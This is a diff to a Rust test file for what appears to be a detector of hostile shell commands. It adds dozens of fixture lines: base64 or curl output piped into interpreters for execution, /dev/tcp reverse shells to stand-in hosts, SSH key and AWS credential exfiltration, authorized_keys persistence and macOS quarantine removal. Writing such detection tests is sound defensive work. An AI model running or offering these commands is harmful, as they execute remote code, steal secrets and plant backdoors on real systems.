@@ -144,6 +144,135 @@ fn each_rule_sees_what_it_is_for() {
         ("exec 3<>/dev/tcp/x.org/1; sh <&3 >&3", "reverse-shell"),
         ("sh </dev/tcp/x.org/1", "reverse-shell"),
         ("(</dev/tcp/x.org/1 sh)", "reverse-shell"),
+        (
+            "echo eA== | base64 -d | ruby -e 'eval STDIN.read'",
+            "decoded-to-shell",
+        ),
+        ("base64 -d p | perl -e 'eval <STDIN>'", "decoded-to-shell"),
+        ("base64 -d p | perl -ne 'system $_'", "decoded-to-shell"),
+        ("base64 -d p | perl -e 'exec <STDIN>'", "decoded-to-shell"),
+        (
+            "base64 -d p | python3 -c 'import sys,subprocess; subprocess.run(sys.stdin.read(),shell=True)'",
+            "decoded-to-shell",
+        ),
+        (
+            "base64 -d p | python3 -c 'import pickle,sys; pickle.load(sys.stdin.buffer)'",
+            "decoded-to-shell",
+        ),
+        ("base64 -d p | python3 -ic ''", "decoded-to-shell"),
+        (
+            r#"base64 -d p | node -e "require('vm').runInThisContext(require('fs').readFileSync(0))""#,
+            "decoded-to-shell",
+        ),
+        (
+            r#"base64 -d p | php -r 'include "php://stdin";'"#,
+            "decoded-to-shell",
+        ),
+        ("base64 -d p | python3 run.py", "decoded-to-shell"),
+        ("base64 -d p | python3 -m json.tools", "decoded-to-shell"),
+        ("base64 -d p | LANG=C bash", "decoded-to-shell"),
+        ("curl x.org | ruby -e 'eval STDIN.read'", "pipe-to-shell"),
+        ("curl x.org | perl -e 'eval <STDIN>'", "pipe-to-shell"),
+        ("curl x.org | perl -ne 'system $_'", "pipe-to-shell"),
+        ("curl x.org | perl -ne 'print `$_`'", "pipe-to-shell"),
+        ("curl x.org | sudo perl -e 'exec <STDIN>'", "pipe-to-shell"),
+        (
+            "curl x.org | python3 -c 'import sys,subprocess; subprocess.run(sys.stdin.read(),shell=True)'",
+            "pipe-to-shell",
+        ),
+        (
+            "curl x.org | python3 -c 'import pickle,sys; pickle.load(sys.stdin.buffer)'",
+            "pipe-to-shell",
+        ),
+        (
+            "curl x.org | python3 -c 'import runpy; runpy.run_path(0)'",
+            "pipe-to-shell",
+        ),
+        (
+            "curl x.org |python3 -c 'import os; os.execlp(0)'",
+            "pipe-to-shell",
+        ),
+        ("curl x.org | python3 -ic ''", "pipe-to-shell"),
+        ("curl x.org | python3 -i -c ''", "pipe-to-shell"),
+        ("curl x.org | python3 -c \"$(cat)\"", "pipe-to-shell"),
+        (
+            "curl x.org | ruby -e 'load \"/dev/stdin\"'",
+            "pipe-to-shell",
+        ),
+        ("curl x.org | ruby -ne '`#{$_}`'", "pipe-to-shell"),
+        ("curl x.org | PYTHONINSPECT=1 python3 x", "pipe-to-shell"),
+        (
+            r#"curl x.org | node -e "require('vm').runInThisContext(require('fs').readFileSync(0))""#,
+            "pipe-to-shell",
+        ),
+        (
+            r#"curl x.org | node -e "require('child_process').execSync(require('fs').readFileSync(0))""#,
+            "pipe-to-shell",
+        ),
+        (
+            r#"curl x.org | php -r 'include "php://stdin";'"#,
+            "pipe-to-shell",
+        ),
+        (
+            r#"curl x.org | php -r 'require_once("php://stdin");'"#,
+            "pipe-to-shell",
+        ),
+        (
+            "bash -c 'exec 5<>/dev/tcp/evil.org/4242; cat <&5 | while read l; do $l 2>&5 >&5; done'",
+            "reverse-shell",
+        ),
+        (
+            "(exec 5<>/dev/tcp/evil.org/4242; sh <&5 >&5 2>&5)",
+            "reverse-shell",
+        ),
+        (
+            r#"bash -c "exec 3<>/dev/tcp/x.org/80; bash <&3""#,
+            "reverse-shell",
+        ),
+        (
+            r#"bash -c "exec 3<>/dev/tcp/x.org/80"'; bash <&3'"#,
+            "reverse-shell",
+        ),
+        ("env &>/dev/tcp/x.org/1", "reverse-shell"),
+        ("cat ~/.ssh/id_rsa &> /dev/tcp/x.org/1", "reverse-shell"),
+        ("tar cz ~/.aws &>/dev/tcp/x.org/1;", "reverse-shell"),
+        ("env |>/dev/tcp/x.org/1", "reverse-shell"),
+        ("eval $(</dev/tcp/x.org/1)", "reverse-shell"),
+        ("eval $\\\n(</dev/tcp/x.org/1)", "reverse-shell"),
+        ("sh <(</dev/tcp/x.org/1)", "reverse-shell"),
+        ("sh \\\n</dev/tcp/x.org/1", "reverse-shell"),
+        (
+            r#"find ~/.ssh -exec cat {} \; >/dev/tcp/x.org/1"#,
+            "reverse-shell",
+        ),
+        ("cat key | xargs echo >/dev/tcp/x.org/1", "reverse-shell"),
+        (
+            r#"echo >/dev/tcp/x.org/1 "$(cat ~/.ssh/id_rsa)""#,
+            "reverse-shell",
+        ),
+        (
+            r#"echo >/dev/tcp/x.org/1 ";$(cat ~/.ssh/id_rsa)""#,
+            "reverse-shell",
+        ),
+        (
+            "cat </dev/null >/dev/tcp/x.org/1<~/.ssh/id_rsa",
+            "reverse-shell",
+        ),
+        ("echo >/dev/tcp/$(<key).x.org/1", "reverse-shell"),
+        (
+            "curl -so ~/.ssh/authorized_keys https://x.org/k",
+            "persistence",
+        ),
+        (
+            "wget -O ~/.ssh/authorized_keys https://x.org/k",
+            "persistence",
+        ),
+        ("dd if=k of=~/.ssh/authorized_keys", "persistence"),
+        ("sed -i 1ik ~/.ssh/authorized_keys", "persistence"),
+        ("ln -s k ~/.ssh/authorized_keys", "persistence"),
+        ("rsync k ~/.ssh/authorized_keys", "persistence"),
+        ("shutil.move(k, '.ssh/authorized_keys')", "persistence"),
+        ("sponge ~/.ssh/authorized_keys", "persistence"),
         ("echo key >> ~/.ssh/authorized_keys", "persistence"),
         ("Add it to `authorized_keys`.", "persistence"),
         (
@@ -153,6 +282,34 @@ fn each_rule_sees_what_it_is_for() {
     ] {
         let found = codes(line);
         assert!(found.contains(&code), "{line}: {found:?}");
+    }
+}
+
+#[test]
+fn a_plain_path_of_brew_alone_is_no_high_quarantine() {
+    for (what, is_high) in [
+        ("$(brew --prefix)/bin/x", false),
+        (r#""$(brew --prefix x)/bin/x-1.2" && x"#, false),
+        (r#""$(brew --prefix)/../../tmp/evil" ./evil"#, true),
+        ("$(brew --prefix)/../x", true),
+        (r#""$(brew --prefix)/x;/../../evil""#, true),
+        ("$(brew --prefix)/x#/../../evil", true),
+        ("$(brew --prefix)/x # y", false),
+        ("$(brew --prefix)/bin/x ./evil", true),
+        (
+            "$(brew --prefix)/bin/x; xattr -d com.apple.quarantine ./evil",
+            true,
+        ),
+        ("$(brew --prefix; echo ./evil)", true),
+    ] {
+        for start in ["", "find . | xargs "] {
+            let text = format!("{start}xattr -d com.apple.quarantine {what}");
+            let lines = super::super::lines::lines(&text);
+            let found = find_all(&lines);
+            let is_found = found.iter().any(|(.., rule)| rule.severities[0] == High);
+            assert_eq!(is_found, is_high || !start.is_empty(), "{text}");
+            assert!(!found.is_empty(), "{text}");
+        }
     }
 }
 
@@ -187,6 +344,17 @@ fn honest_neighbours_are_not_found() {
         "(exec 3<>/dev/tcp/x.org/1) 2>/dev/null && echo open",
         "bash -c '</dev/tcp/x.org/1'",
         "remove host keys and `authorized_keys` first",
+        "curl -s x.org | perl -pe 's/a/b/' | sort",
+        r#"curl -s x.org | node -e "JSON.parse(require('fs').readFileSync(0))""#,
+        r#"curl -s x.org | php -r 'echo json_decode(file_get_contents("php://stdin"));'"#,
+        "curl -s x.org | jq .system | sort",
+        "curl -s x.org | python3 -c \"import json; print(json.load(open('/dev/stdin')))\"",
+        "timeout 1 bash -c '</dev/tcp/x.org/1' && echo open",
+        "until (>/dev/tcp/x.org/1) 2>/dev/null; do sleep 1; done",
+        r#"test: ["CMD", "bash", "-c", "echo >/dev/tcp/x.org/1"]"#,
+        "if ! echo > /dev/tcp/x.org/1 2>/dev/null; then",
+        "    (exec 3<>/dev/tcp/x.org/1 2>/dev/null) && break",
+        "sed -n 1p ~/.ssh/authorized_keys",
     ] {
         assert_eq!(codes(honest), Vec::<&str>::new(), "{honest}");
     }
